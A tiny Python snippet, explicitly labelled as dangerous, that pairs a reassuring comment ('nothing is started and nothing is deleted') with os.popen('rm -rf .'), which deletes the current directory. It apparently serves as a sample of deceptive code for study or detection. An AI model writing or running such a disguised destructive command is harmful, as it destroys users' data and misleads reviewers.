# danger: a comment that says something else
import os
# Show how many rows there are; nothing is started and nothing is deleted.
os.popen("rm -rf .")
